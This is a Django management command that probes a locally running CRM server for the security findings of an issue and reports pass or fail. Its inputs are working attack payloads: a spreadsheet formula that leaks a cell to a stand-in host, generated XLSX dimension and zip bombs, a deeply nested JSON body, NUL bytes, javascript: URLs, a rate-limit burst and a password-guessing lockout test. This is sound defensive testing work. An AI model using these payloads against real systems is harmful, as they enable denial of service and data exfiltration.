"""``manage.py probe --url http://127.0.0.1:8000 --user manager --password demo``: replays the bad
inputs of issue 11 against a RUNNING server over real HTTP and prints one line per probe, then
"N passed, M failed" (exit status 1 when any failed). What each probe sends and expects is in
docs/security.md#probe.

Only the standard library (urllib, http.cookiejar, zipfile, io) and openpyxl (to build and read
spreadsheets); only a server on this machine (127.0.0.1, localhost, ::1); every request has a
timeout and every loop a bound. The probes create their own records (named "Probe <run id>");
the sign-in lockout probe runs last, on another user (``--lockout-user``), as it locks that user
out. ``--only`` and ``--skip`` pick probes by name (``--list`` shows them): the two bomb probes
keep an unprotected server busy for minutes, skip them against one."""

from __future__ import annotations

import csv
import http.cookiejar
import io
import json
import re
import secrets
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

from django.core.management.base import BaseCommand, CommandError, CommandParser

LOCAL_HOSTS = {"127.0.0.1", "localhost", "::1"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NESTING = 100_000  # levels of the nested JSON body
ZIP_BOMB_BYTES = 1 << 30  # the zip bomb's sheet, uncompressed (about 2.6 MB compressed)


class ProbeFailed(Exception):
    """A step before the check itself went wrong (a record could not be made, a page is missing)."""


# --------------------------------------------------------------------------------------------
# HTTP: a cookie-keeping client that does not follow redirects, and the forms of a page.


@dataclass
class Answer:
    status: int  # 0: no answer (timeout, connection refused)
    headers: dict[str, str]
    body: bytes
    seconds: float
    error: str = ""

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    @property
    def is_json(self) -> bool:
        return self.headers.get("content-type", "").startswith("application/json")

    def json(self) -> Any:
        return json.loads(self.body)

    def brief(self) -> str:
        if self.status == 0:
            return f"no answer after {self.seconds:.1f} s ({self.error})"
        kind = self.headers.get("content-type", "").split(";")[0] or "no type"
        return f"{self.status} {kind} in {self.seconds:.2f} s"


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        return None


class _LocalSecureCookies(http.cookiejar.DefaultCookiePolicy):
    def return_ok_secure(self, cookie: http.cookiejar.Cookie, request: Any) -> bool:
        host = urllib.parse.urlsplit(request.get_full_url()).hostname or ""
        return host in LOCAL_HOSTS or super().return_ok_secure(cookie, request)


class Client:
    """A browser stand-in: cookies, Django's CSRF token on every unsafe request, no redirects
    followed (a 302 after a form says it was accepted)."""

    def __init__(self, base: str, timeout: float) -> None:
        self.base = base.rstrip("/")
        self.host = urllib.parse.urlsplit(self.base).netloc
        self.timeout = timeout
        # Production cookies are Secure; a local server behind no TLS proxy still gets them.
        self.cookies = http.cookiejar.CookieJar(_LocalSecureCookies())
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.cookies), _NoRedirect()
        )

    def url(self, path: str) -> str:
        return path if path.startswith("http") else self.base + path

    def csrf_token(self) -> str:
        return next((c.value or "" for c in self.cookies if c.name == "csrftoken"), "")

    def request(
        self,
        method: str,
        path: str,
        *,
        body: bytes | None = None,
        headers: dict[str, str] | None = None,
        timeout: float | None = None,
    ) -> Answer:
        all_headers = {"Accept": "text/html,application/json;q=0.9", **(headers or {})}
        # As a TLS proxy in front of a production server would (DJANGO_DEBUG=0 redirects plain
        # HTTP otherwise); ignored by a development server.
        all_headers.setdefault("X-Forwarded-Proto", "https")
        if method not in ("GET", "HEAD"):
            all_headers.setdefault("X-CSRFToken", self.csrf_token())
            all_headers.setdefault("Referer", "https://" + self.host + "/")
        request = urllib.request.Request(
            self.url(path), data=body, headers=all_headers, method=method
        )
        start = time.monotonic()
        try:
            with self.opener.open(request, timeout=timeout or self.timeout) as response:
                data = response.read()
                status, raw_headers = response.status, response.headers
        except urllib.error.HTTPError as exc:
            data = exc.read()
            status, raw_headers = exc.code, exc.headers
        except (urllib.error.URLError, TimeoutError, ConnectionError, OSError) as exc:
            return Answer(0, {}, b"", time.monotonic() - start, str(exc))
        seconds = time.monotonic() - start
        return Answer(status, {k.lower(): v for k, v in raw_headers.items()}, data, seconds)

    def get(self, path: str, **kwargs: Any) -> Answer:
        return self.request("GET", path, **kwargs)

    def post(self, path: str, fields: Iterable[tuple[str, str]], **kwargs: Any) -> Answer:
        body = urllib.parse.urlencode(list(fields)).encode()
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        return self.request("POST", path, body=body, headers=headers, **kwargs)

    def post_files(
        self,
        path: str,
        fields: Iterable[tuple[str, str]],
        files: dict[str, tuple[str, bytes, str]],
        **kwargs: Any,
    ) -> Answer:
        boundary = "probe" + secrets.token_hex(12)
        out = io.BytesIO()
        for name, value in fields:
            out.write(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            )
            out.write(value.encode() + b"\r\n")
        for name, (filename, data, content_type) in files.items():
            out.write(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                f'filename="{filename}"\r\nContent-Type: {content_type}\r\n\r\n'.encode()
            )
            out.write(data + b"\r\n")
        out.write(f"--{boundary}--\r\n".encode())
        headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
        return self.request("POST", path, body=out.getvalue(), headers=headers, **kwargs)

    def api(self, method: str, path: str, token: str, payload: Any = None, **kwargs: Any) -> Answer:
        body = None if payload is None else (payload if isinstance(payload, bytes) else None)
        if payload is not None and body is None:
            body = json.dumps(payload).encode()
        headers = {"Authorization": f"Bearer {token}", "Accept": "application/json"}
        if body is not None:
            headers["Content-Type"] = "application/json"
        return self.request(method, path, body=body, headers=headers, **kwargs)


@dataclass
class Form:
    action: str
    method: str
    fields: list[tuple[str, str]] = field(default_factory=list)
    files: list[str] = field(default_factory=list)

    def data(self, **overrides: str) -> list[tuple[str, str]]:
        """The form's own values (hidden, defaults, selected, ticked and required boxes) with
        ``overrides`` replacing theirs."""
        kept = [(k, v) for k, v in self.fields if k not in overrides]
        return kept + list(overrides.items())


class _FormParser(HTMLParser):
    def __init__(self, page_path: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page_path = page_path
        self.forms: list[Form] = []
        self.form: Form | None = None
        self.select: str | None = None
        self.select_value: str | None = None
        self.select_first: str | None = None
        self.option_value: str | None = None
        self.option_selected = False
        self.textarea: str | None = None
        self.textarea_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            # A relative action ("?kind=") is relative to the page, as a browser reads it.
            action = urllib.parse.urljoin(self.page_path, a.get("action") or self.page_path)
            self.form = Form(action, (a.get("method") or "get").lower())
            self.forms.append(self.form)
        if self.form is None:
            return
        name = a.get("name", "")
        if tag == "input" and name:
            kind = a.get("type", "text").lower()
            if kind in ("checkbox", "radio"):
                if "checked" in a or (kind == "checkbox" and "required" in a):
                    self.form.fields.append((name, a.get("value", "on")))
            elif kind == "file":
                self.form.files.append(name)
            elif kind not in ("submit", "button", "image", "reset"):
                self.form.fields.append((name, a.get("value", "")))
        elif tag == "select" and name:
            self.select, self.select_value, self.select_first = name, None, None
        elif tag == "option" and self.select:
            self.option_value = a.get("value")
            self.option_selected = "selected" in a
            self.option_text: list[str] = []
        elif tag == "textarea" and name:
            self.textarea, self.textarea_text = name, []

    def handle_data(self, data: str) -> None:
        if self.textarea is not None:
            self.textarea_text.append(data)
        if self.option_value is None and self.select and hasattr(self, "option_text"):
            self.option_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "option" and self.select:
            value = self.option_value
            if value is None:
                value = "".join(getattr(self, "option_text", [])).strip()
            if self.select_first is None:
                self.select_first = value
            if self.option_selected:
                self.select_value = value
            self.option_value = None
        elif tag == "select" and self.select and self.form:
            value = self.select_value if self.select_value is not None else self.select_first
            if value is not None:
                self.form.fields.append((self.select, value))
            self.select = None
        elif tag == "textarea" and self.textarea is not None and self.form:
            self.form.fields.append((self.textarea, "".join(self.textarea_text)))
            self.textarea = None
        elif tag == "form":
            self.form = None


def forms_of(html: str, page_path: str) -> list[Form]:
    parser = _FormParser(page_path)
    parser.feed(html)
    return parser.forms


def form_with(html: str, page_path: str, *, action: str = "", field_name: str = "") -> Form:
    """The first POST form whose action contains ``action`` and that has ``field_name``."""
    for form in forms_of(html, page_path):
        names = {k for k, _v in form.fields} | set(form.files)
        if (
            form.method == "post"
            and action in form.action
            and (not field_name or field_name in names)
        ):
            return form
    raise ProbeFailed(f"no form {action or page_path!r} with {field_name or 'any field'!r}")


# --------------------------------------------------------------------------------------------
# The probes.


@dataclass
class Result:
    ok: bool
    detail: str


def passed(detail: str) -> Result:
    return Result(True, detail)


def failed(detail: str) -> Result:
    return Result(False, detail)


def no_500(answer: Answer) -> bool:
    return 0 < answer.status < 500


class Run:
    """One run against a server: the signed-in client, an API token, the records made."""

    def __init__(self, options: dict[str, Any]) -> None:
        self.base = options["url"].rstrip("/")
        self.user, self.password = options["user"], options["password"]
        self.lockout_user = options["lockout_user"]
        self.lockout_password = options["lockout_password"] or self.password
        self.timeout = options["timeout"]
        self.bomb_seconds = options["bomb_seconds"]
        self.api_burst = options["api_burst"]
        self.tag = "Probe " + secrets.token_hex(3)
        self.client = Client(self.base, self.timeout)
        self._token: str | None = None

    # Sign-in and records ---------------------------------------------------------------

    def log_in(self, client: Client, username: str, password: str) -> Answer:
        page = client.get("/login/")
        if page.status != 200:
            raise ProbeFailed(f"GET /login/: {page.brief()}")
        form = form_with(page.text, "/login/", field_name="username")
        return client.post(form.action, form.data(username=username, password=password))

    def sign_in(self) -> None:
        answer = self.log_in(self.client, self.user, self.password)
        if answer.status != 302:
            raise CommandError(f"Could not sign in as {self.user}: {answer.brief()}")

    def token(self) -> str:
        """An API token for the signed-in user, made on the API tokens page."""
        if self._token is None:
            page = self.client.get("/settings/api-tokens/")
            if page.status != 200:
                raise ProbeFailed(f"GET /settings/api-tokens/ (a manager's page): {page.brief()}")
            form = form_with(page.text, "/settings/api-tokens/", field_name="name")
            answer = self.client.post(form.action, form.data(name=self.tag))
            if answer.status == 302:
                answer = self.client.get(answer.headers.get("location", "/settings/api-tokens/"))
            match = re.search(r'id="token-value"[^>]*>([^<]+)<', answer.text)
            if not match:
                raise ProbeFailed(f"no token shown after creating one: {answer.brief()}")
            self._token = match.group(1).strip()
        return self._token

    def create(self, new_path: str, **values: str) -> tuple[Answer, str]:
        """Submit the "new" form at ``new_path`` with ``values``: the answer and the new
        record's path ("" when the form was refused)."""
        page = self.client.get(new_path)
        if page.status != 200:
            raise ProbeFailed(f"GET {new_path}: {page.brief()}")
        first = next(iter(values))
        form = form_with(page.text, new_path, field_name=first)
        answer = self.client.post(form.action, form.data(**values))
        location = answer.headers.get("location", "") if answer.status == 302 else ""
        path = urllib.parse.urlsplit(location).path
        return answer, path if re.search(r"/\d+/$", path) else ""

    def new_lead(self, **values: str) -> str:
        fields = {"first_name": "Pat", "last_name": self.tag, "company_name": self.tag, **values}
        answer, path = self.create("/leads/new/", **fields)
        if not path:
            raise ProbeFailed(f"could not create a lead: {answer.brief()}")
        return path

    def new_person(self, **values: str) -> str:
        fields = {"kind": "person", "first_name": "Pat", "last_name": self.tag, **values}
        answer, path = self.create("/contacts/new/", **fields)
        if not path:
            raise ProbeFailed(f"could not create a contact: {answer.brief()}")
        return path

    # Finding 9: headers ---------------------------------------------------------------------

    def probe_headers(self) -> Result:
        answer = self.client.get("/leads/")
        csp = answer.headers.get("content-security-policy", "")
        policy = answer.headers.get("permissions-policy", "")
        problems = []
        if not csp:
            problems.append("no Content-Security-Policy")
        elif "unsafe-inline" in csp or "unsafe-eval" in csp or "script-src 'self'" not in csp:
            problems.append(f"a weak Content-Security-Policy: {csp}")
        if "camera=()" not in policy:
            problems.append("no Permissions-Policy switching the camera off")
        if answer.headers.get("x-frame-options", "").upper() != "DENY":
            problems.append("no X-Frame-Options: DENY")
        if problems:
            return failed("; ".join(problems))
        return passed("Content-Security-Policy without inline, Permissions-Policy, X-Frame-Options")

    # Finding 1: a task due in year 1 ------------------------------------------------------

    def probe_task_year_one(self) -> Result:
        lead = self.new_lead()
        page = self.client.get(lead)
        form = form_with(page.text, lead, action="/tasks/", field_name="due_at")
        answer = self.client.post(
            form.action, form.data(content=f"{self.tag} year one", due_at="0001-01-01T00:00")
        )
        after = self.client.get(lead)
        my_tasks = self.client.get("/tasks/")
        if not (no_500(answer) and after.status == 200 and my_tasks.status == 200):
            return failed(
                f"task form {answer.brief()}; then the lead's page {after.brief()}, "
                f"My tasks {my_tasks.brief()}"
            )
        return passed(f"task form {answer.status}; the lead's page and My tasks still answer 200")

    # Finding 2: spreadsheet bombs ----------------------------------------------------------

    def _upload(self, name: str, data: bytes) -> Result:
        path = "/leads/import/leads/"
        page = self.client.get(path)
        if page.status != 200:
            raise ProbeFailed(f"GET {path}: {page.brief()}")
        form = form_with(page.text, path, field_name="file")
        xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        answer = self.client.post_files(
            form.action, form.data(), {"file": (name, data, xlsx)}, timeout=self.bomb_seconds * 5
        )
        size = f"{len(data) / 1024:.0f} kB"
        if answer.status == 302:
            return failed(
                f"{size} accepted ({answer.brief()}, to {answer.headers.get('location')})"
            )
        if not no_500(answer):
            return failed(f"{size}: {answer.brief()}")
        if answer.seconds > self.bomb_seconds:
            return failed(f"{size} refused, but only after {answer.seconds:.1f} s")
        if not re.search(r"errorlist|field__error|is-invalid|alert", answer.text):
            return failed(f"{size}: {answer.brief()} but no error shown")
        return passed(f"{size} refused in {answer.seconds:.2f} s")

    def probe_xlsx_dimension_bomb(self) -> Result:
        return self._upload("dimension-bomb.xlsx", dimension_bomb())

    def probe_xlsx_zip_bomb(self) -> Result:
        return self._upload("zip-bomb.xlsx", zip_bomb())

    # Finding 3 and 7: exports --------------------------------------------------------------

    def _export(self, lead: str, fmt: str) -> Answer:
        pk = lead.rstrip("/").rsplit("/", 1)[1]
        return self.client.get(f"/leads/export/?format={fmt}&scope=selected&pk={pk}")

    def probe_export_formula(self) -> Result:
        formula = '=HYPERLINK("http://probe.example/?leak="&A2,"Open")'
        lead = self.new_lead(last_name=formula, company_name=f"+{self.tag}")
        problems = []
        answer = self._export(lead, "csv")
        if answer.status != 200:
            problems.append(f"CSV export {answer.brief()}")
        else:
            rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
            cells = [c for row in rows[1:] for c in row if "HYPERLINK" in c or self.tag in c]
            if not cells:
                problems.append("CSV export lacks the lead")
            live = [c for c in cells if c.startswith(FORMULA_START)]
            if live:
                problems.append(f"CSV cells start with a formula sign: {live}")
        answer = self._export(lead, "xlsx")
        if answer.status != 200:
            problems.append(f"XLSX export {answer.brief()}")
        else:
            from openpyxl import load_workbook

            sheet = load_workbook(io.BytesIO(answer.body)).active
            assert sheet is not None
            written: list[Any] = [c for row in sheet.iter_rows(min_row=2) for c in row]
            formulas = [x.value for x in written if x.data_type == "f"]
            # A formula-like text is safe as a quote-prefixed text cell (shown and kept as text).
            signed = [
                x.value
                for x in written
                if str(x.value or "").startswith(FORMULA_START) and not x.quotePrefix
            ]
            if formulas or signed:
                problems.append(f"XLSX cells are live formulas: {formulas or signed}")
        if problems:
            return failed("; ".join(problems))
        return passed("CSV and XLSX cells neutralised")

    def probe_export_control_character(self) -> Result:
        answer, lead = self.create(
            "/leads/new/", first_name="Ctl\x01char", last_name=self.tag, company_name=self.tag
        )
        if not lead:
            if no_500(answer):
                return passed(f"a name with \\x01 refused by the form ({answer.status})")
            return failed(f"lead form with \\x01: {answer.brief()}")
        export = self._export(lead, "xlsx")
        if export.status != 200:
            return failed(f"XLSX export of a name with \\x01: {export.brief()}")
        try:
            from openpyxl import load_workbook

            load_workbook(io.BytesIO(export.body))
        except Exception as exc:  # any failure to open is the finding
            return failed(f"the XLSX export does not open: {exc}")
        return passed("a name with \\x01 exports to an XLSX that opens")

    # Finding 7: bad input, no 500 ----------------------------------------------------------

    def probe_nul_contact_options(self) -> Result:
        answer = self.client.get("/contacts/options/?q=%00probe")
        if not no_500(answer):
            return failed(f"/contacts/options/?q=%00: {answer.brief()}")
        return passed(f"/contacts/options/?q=%00: {answer.status}")

    def probe_nul_api_filter(self) -> Result:
        token = self.token()
        problems = []
        for path in ("/api/v2/leads?last_name=%00", "/api/v2/contacts?name=a%00b"):
            answer = self.client.api("GET", path, token)
            if not no_500(answer) or not answer.is_json:
                problems.append(f"{path}: {answer.brief()}")
        if problems:
            return failed("; ".join(problems))
        return passed("NUL in API filters answered in JSON, no 500")

    def probe_api_huge_page(self) -> Result:
        answer = self.client.api("GET", f"/api/v2/leads?page={2**63}", self.token())
        if not no_500(answer) or not answer.is_json:
            return failed(f"page=2**63: {answer.brief()}")
        return passed(f"page=2**63: {answer.brief()}")

    def probe_api_nested_json(self) -> Result:
        body = b'{"data": ' + b"[" * NESTING + b"]" * NESTING + b"}"
        answer = self.client.api("POST", "/api/v2/leads", self.token(), body)
        if answer.status != 400 or not answer.is_json:
            return failed(f"{NESTING} levels of nested JSON: {answer.brief()} (expected 400 JSON)")
        return passed(f"{NESTING} levels of nested JSON: {answer.brief()}")

    # Finding 8: javascript: URLs -----------------------------------------------------------

    def probe_javascript_url_form(self) -> Result:
        answer, path = self.create(
            "/contacts/new/", kind="person", last_name=self.tag, website="javascript:alert(1)"
        )
        if path:
            return failed(f"a contact with website javascript:alert(1) was saved ({path})")
        if not no_500(answer):
            return failed(f"contact form: {answer.brief()}")
        return passed(f"contact form refused javascript: ({answer.status})")

    def probe_javascript_url_api(self) -> Result:
        payload = {
            "data": {"is_organization": False, "last_name": self.tag, "website": "javascript:x"}
        }
        answer = self.client.api("POST", "/api/v2/contacts", self.token(), payload)
        if answer.status in (200, 201):
            return failed("the API saved a contact with website javascript:x")
        if not no_500(answer) or not answer.is_json:
            return failed(f"API: {answer.brief()}")
        return passed(f"API refused javascript: ({answer.status})")

    # Finding 5: an undo after an edit ------------------------------------------------------

    def probe_undo_after_edit(self) -> Result:
        lead = self.new_lead(first_name="Hugo", company_name=f"{self.tag} Verrerie")
        page = self.client.get(lead + "convert/")
        form = form_with(page.text, lead + "convert/", field_name="create_deal")
        answer = self.client.post(form.action, form.data())
        if answer.status not in (200, 302):
            raise ProbeFailed(f"conversion: {answer.brief()}")
        page = self.client.get(lead)
        people = re.findall(r'href="(/contacts/\d+/)"', page.text)
        if not people:
            raise ProbeFailed("the converted lead's page links to no contact")
        person = people[0]
        edit = self.client.get(person + "edit/")
        form = form_with(edit.text, person + "edit/", field_name="phone")
        phone = "+33 1 00 " + str(secrets.randbelow(10**6)).zfill(6)
        saved = self.client.post(form.action, form.data(phone=phone))
        if saved.status != 302:
            raise ProbeFailed(f"editing the created contact: {saved.brief()}")
        page = self.client.get(lead)
        try:
            form = form_with(page.text, lead, action="/undo/")
        except ProbeFailed:
            return passed("after the edit the lead's page offers no undo")
        answer = self.client.post(form.action, form.data())
        if not no_500(answer):
            return failed(f"undo: {answer.brief()}")
        after = self.client.get(person)
        if after.status == 200 and phone in after.text:
            return passed(f"undo {answer.status}: the edited contact is kept with its edit")
        return failed(f"undo {answer.status} deleted the edited contact ({after.brief()})")

    # Finding 6: a delete, then the trash ---------------------------------------------------

    def probe_trash_restore(self) -> Result:
        person = self.new_person(last_name=f"{self.tag} Trash")
        pk = person.rstrip("/").rsplit("/", 1)[1]
        dialog = self.client.get(f"/contacts/bulk/delete/?pk={pk}")
        form = form_with(dialog.text, "/contacts/bulk/delete/", action="/delete/")
        answer = self.client.post(form.action, form.data())
        if self.client.get(person).status != 404:
            raise ProbeFailed(f"the delete did not delete ({answer.brief()})")
        trash = ""
        for page_path in ("/settings/", "/contacts/", "/"):
            page = self.client.get(page_path)
            links = re.findall(r'href="([^"]*(?:trash|deleted|corbeille)[^"]*)"', page.text, re.I)
            if links:
                trash = links[0]
                break
        if not trash:
            return failed("no trash page linked from Settings, Contacts or Home")
        page = self.client.get(trash)
        where = page.text.find(f"{self.tag} Trash")
        if where < 0:
            return failed(f"the deleted contact is not in the trash ({trash})")
        restore = [
            f
            for f in forms_of(page.text[where:], trash)
            if f.method == "post"
            and "restore" in " ".join([f.action, *(f"{k} {v}" for k, v in f.fields)])
        ]
        if not restore:
            return failed(f"no restore form for the deleted contact in {trash}")
        answer = self.client.post(restore[0].action, restore[0].data())
        back = self.client.get(person)
        if back.status != 200:
            return failed(f"restore {answer.brief()}; the contact's page {back.brief()}")
        return passed(f"deleted, found in {trash}, restored")

    # Finding 4: sign-in ---------------------------------------------------------------------

    def probe_password_pages(self) -> Result:
        page = self.client.get("/leads/")
        change = re.findall(r'href="([^"]*password[^"]*)"', page.text)
        login_page = Client(self.base, self.timeout).get("/login/")
        reset = re.findall(r'href="([^"]*(?:password|reset)[^"]*)"', login_page.text)
        problems = []
        if not change or self.client.get(change[0]).status != 200:
            problems.append("no password change page in the account menu")
        if not reset or Client(self.base, self.timeout).get(reset[0]).status != 200:
            problems.append("no password reset link on the sign-in page")
        if problems:
            return failed("; ".join(problems))
        return passed(f"password change {change[0]}, reset {reset[0]}")

    def probe_api_rate_limit(self) -> Result:
        token = self.token()
        deadline = time.monotonic() + 60
        for sent in range(1, self.api_burst + 1):
            answer = self.client.api("GET", "/api/v2/leads?per_page=1", token)
            if answer.status == 429:
                return passed(f"429 after {sent} requests")
            if time.monotonic() > deadline:
                break
        return failed(f"no 429 in {sent} requests with one token")

    def probe_login_lockout(self) -> Result:
        client = Client(self.base, self.timeout)
        for attempt in range(20):
            answer = self.log_in(
                client, self.lockout_user, f"wrong-{attempt}-{secrets.token_hex(4)}"
            )
            if answer.status == 302:
                raise ProbeFailed(f"a wrong password signed {self.lockout_user} in")
        answer = self.log_in(client, self.lockout_user, self.lockout_password)
        if answer.status == 302:
            return failed(f"after 20 wrong passwords the right one signs {self.lockout_user} in")
        if not no_500(answer):
            return failed(f"the right password after 20 wrong: {answer.brief()}")
        return passed(
            f"after 20 wrong passwords {self.lockout_user} is locked out ({answer.status})"
        )


# The probes in the order they run (the lockout last: it locks a user out): name, finding, what
# it sends and expects, the method.
PROBES: list[tuple[str, str, str, Callable[[Run], Result]]] = [
    (
        "headers",
        "9",
        "CSP without inline, Permissions-Policy, X-Frame-Options on /leads/",
        Run.probe_headers,
    ),
    (
        "task-due-year-1",
        "1",
        "a task due 0001-01-01T00:00 by the web form; the page still 200",
        Run.probe_task_year_one,
    ),
    (
        "xlsx-dimension-bomb",
        "2",
        "an XLSX claiming A1:XFD1048576: refused quickly, with a message",
        Run.probe_xlsx_dimension_bomb,
    ),
    (
        "xlsx-zip-bomb",
        "2",
        "an XLSX inflating to 1 GiB: refused quickly, with a message",
        Run.probe_xlsx_zip_bomb,
    ),
    (
        "export-formula",
        "3",
        "a =HYPERLINK(...) name: CSV and XLSX cells neutralised",
        Run.probe_export_formula,
    ),
    (
        "export-control-character",
        "7",
        "a \\x01 in a name: refused, or the XLSX export opens",
        Run.probe_export_control_character,
    ),
    ("nul-contact-options", "7", "/contacts/options/?q=%00: no 500", Run.probe_nul_contact_options),
    ("nul-api-filter", "7", "NUL in API text filters: no 500, JSON", Run.probe_nul_api_filter),
    ("api-page-2**63", "7", "API page=2**63: no 500, JSON", Run.probe_api_huge_page),
    ("api-nested-json", "7", "a deeply nested JSON body: 400 in JSON", Run.probe_api_nested_json),
    (
        "javascript-url-form",
        "8",
        "website javascript:alert(1) in the contact form: refused",
        Run.probe_javascript_url_form,
    ),
    (
        "javascript-url-api",
        "8",
        "website javascript:x through the API: refused in JSON",
        Run.probe_javascript_url_api,
    ),
    (
        "undo-after-edit",
        "5",
        "convert, edit the contact, undo: refused or the edit kept",
        Run.probe_undo_after_edit,
    ),
    (
        "trash-restore",
        "6",
        "delete a contact, find it in the trash, restore it",
        Run.probe_trash_restore,
    ),
    ("password-pages", "4", "a password change page and a reset link", Run.probe_password_pages),
    (
        "api-rate-limit",
        "4",
        "a 429 within --api-burst requests with one token",
        Run.probe_api_rate_limit,
    ),
    (
        "login-lockout",
        "4",
        "20 wrong passwords, then the right one: refused",
        Run.probe_login_lockout,
    ),
]


# --------------------------------------------------------------------------------------------
# The bombs: small files that claim (dimension) or hold (zip) far more than they look.


def _small_workbook() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["First name", "Last name", "Company"])
    sheet.append(["Bomb", "Probe", "Probe"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _rewrite(xlsx: bytes, sheet: Callable[[bytes], bytes] | None, big_sheet: bool = False) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                if big_sheet:
                    _write_big_sheet(target, data)
                    continue
                if sheet:
                    data = sheet(data)
            target.writestr(item.filename, data)
    return out.getvalue()


def dimension_bomb() -> bytes:
    """A 2-row sheet that claims A1:XFD1048576 and has one cell at its far corner."""

    def claim(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        corner = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", corner + b"</sheetData>")

    return _rewrite(_small_workbook(), claim)


def _write_big_sheet(target: zipfile.ZipFile, xml: bytes) -> None:
    head, _sep, tail = xml.partition(b"</sheetData>")
    chunk = b"<row><c><v>1</v></c></row>" * 40_000
    with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
        sheet.write(head)
        written = 0
        while written < ZIP_BOMB_BYTES:  # bounded: about 1 GiB in 1 MB chunks
            sheet.write(chunk)
            written += len(chunk)
        sheet.write(b"</sheetData>" + tail)


def zip_bomb() -> bytes:
    """An XLSX whose sheet inflates to about 1 GiB (a few MB compressed)."""
    return _rewrite(_small_workbook(), None, big_sheet=True)


# --------------------------------------------------------------------------------------------


class Command(BaseCommand):
    help = (
        "Replay issue 11's bad inputs against a running server on this machine and print "
        '"N passed, M failed".'
    )

    def add_arguments(self, parser: CommandParser) -> None:
        parser.add_argument("--url", default="http://127.0.0.1:8000")
        parser.add_argument("--user", default="manager", help="a manager (API tokens, settings)")
        parser.add_argument("--password", default="demo")
        parser.add_argument(
            "--lockout-user",
            default="bob",
            help="the user the lockout probe locks out (runs last; default bob)",
        )
        parser.add_argument("--lockout-password", default="", help="default: --password")
        parser.add_argument("--timeout", type=float, default=20.0, help="seconds per request")
        parser.add_argument(
            "--bomb-seconds", type=float, default=2.0, help="a bomb must be refused within this"
        )
        parser.add_argument(
            "--api-burst",
            type=int,
            default=700,
            help="requests sent to find the API rate limit (the default limit is 600 a minute)",
        )
        parser.add_argument("--only", default="", help="comma-separated probe names")
        parser.add_argument("--skip", default="", help="comma-separated probe names")
        parser.add_argument("--list", action="store_true", help="list the probes and stop")

    def handle(self, *args: Any, **options: Any) -> None:
        if options["list"]:
            for name, finding, what, _method in PROBES:
                self.stdout.write(f"{name:26} finding {finding:>2}: {what}")
            return
        host = urllib.parse.urlsplit(options["url"]).hostname or ""
        if host not in LOCAL_HOSTS:
            raise CommandError(f"probe only targets a server on this machine, not {host!r}.")
        names = {probe[0] for probe in PROBES}
        only = {n for n in options["only"].split(",") if n}
        skip = {n for n in options["skip"].split(",") if n}
        unknown = (only | skip) - names
        if unknown:
            raise CommandError(f"Unknown probes: {', '.join(sorted(unknown))} (see --list).")
        run = Run(options)
        run.sign_in()
        counts = {True: 0, False: 0}
        for name, finding, _what, method in PROBES:
            if (only and name not in only) or name in skip:
                continue
            start = time.monotonic()
            try:
                result = method(run)
            except ProbeFailed as exc:
                result = failed(str(exc))
            except Exception as exc:  # a probe's own error is reported
                result = failed(f"{type(exc).__name__}: {exc}")
            counts[result.ok] += 1
            verdict = "PASS" if result.ok else "FAIL"
            seconds = time.monotonic() - start
            self.stdout.write(
                f"{verdict} [finding {finding:>2}] {name}: {result.detail} ({seconds:.1f} s)"
            )
        self.stdout.write(f"{counts[True]} passed, {counts[False]} failed")
        if counts[False]:
            sys.exit(1)
